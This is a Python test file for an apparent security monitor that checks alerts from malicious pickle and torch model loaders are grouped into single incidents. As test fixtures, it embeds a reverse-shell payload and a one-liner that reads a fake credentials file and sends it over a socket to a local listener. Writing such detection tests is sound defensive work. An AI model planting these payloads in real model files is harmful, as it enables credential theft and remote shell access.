"""Incidents: every alert of one loader lineage is a step of one incident,
emitted as "new" at the first alert, "update" as the timeline grows and
"closed" when the lineage has exited, with the named chain on top."""
from harness import Checks, Scenario, TestFailure, get, require_rules
from test_payloads import REVERSE_SHELL

ORDER = ["model_open", "external_connect", "socket_stdio", "shell_exec"]


def incidents_of(sc, loader_pid):
    return [i for i in sc.mon.incidents if get(i, "loader", "pid") == loader_pid]


def check_one_incident(c, sc, alerts, loader_pid, chain, steps):
    recs = incidents_of(sc, loader_pid)
    ids = {r.get("incident") for r in recs}
    c.eq(len(ids), 1, "incident ids for the loader (%s)" % sorted(map(str, ids)))
    c.true(recs and recs[0].get("status") == "new", "first record is not status=new: %r"
           % [r.get("status") for r in recs])
    c.true(recs and recs[-1].get("status") == "closed", "last record is not status=closed: %r"
           % [r.get("status") for r in recs])
    for a in alerts:
        c.eq(a.get("incident"), next(iter(ids), None), "alert %s incident id" % get(a, "rule", "id"))
    if not recs:
        return None
    last = recs[-1]
    kinds = [s.get("step") for s in last.get("timeline") or []]
    c.true(all(k in kinds for k in steps), "timeline %s lacks some of %s" % (kinds, steps))
    times = [s.get("time") for s in last.get("timeline") or []]
    c.true(times == sorted(times), "timeline not in time order: %s" % times)
    c.true(chain in [ch.get("id") for ch in last.get("chains") or []],
           "chain %s not named: %s" % (chain, last.get("chains")))
    c.eq(last.get("severity"), "critical", "incident severity")
    c.eq(get(last, "summary", "reason"), "exited", "closed because the lineage exited")
    return last


def test_reverse_shell_is_one_incident():
    with Scenario("inc-revshell") as sc:
        marker = sc.path("MARKER")
        lst = sc.listener()
        model = sc.make_model("pickle", "model.pkl",
                              exec_code=REVERSE_SHELL.format(port=lst.port, marker=marker))
        sc.start()
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(marker)
        want = {"model-loader-external-connect", "model-loader-socket-stdio", "model-loader-shell"}
        sc.wait_rules(ld.pid, want)
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, want)
        c = Checks("reverse-shell incident")
        last = check_one_incident(c, sc, mine, ld.pid, "chain-reverse-shell", ORDER)
        if last:
            kinds = [s.get("step") for s in last.get("timeline") or []]
            c.eq(kinds[0] if kinds else None, "model_open", "first step")
        c.done()


def test_credential_exfil_is_one_incident():
    with Scenario("inc-exfil") as sc:
        cred = sc.fake_credentials()
        lst = sc.listener()
        code = ("import socket; d=open(%r).read(); s=socket.create_connection(('127.0.0.1', %d)); "
                "s.sendall(d.encode()); s.close()") % (cred, lst.port)
        model = sc.make_model("torch", "model.pt", exec_code=code)
        sc.start()
        ld = sc.run_loader("torch", model).expect_ok("loader")
        if not lst.wait(1):
            raise TestFailure("payload never connected to the listener")
        want = {"model-loader-external-connect", "model-loader-credential-read"}
        sc.wait_rules(ld.pid, want)
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, want)
        c = Checks("credential-exfil incident")
        check_one_incident(c, sc, mine, ld.pid, "chain-credential-exfil",
                           ["model_open", "credential_read", "external_connect"])
        c.done()
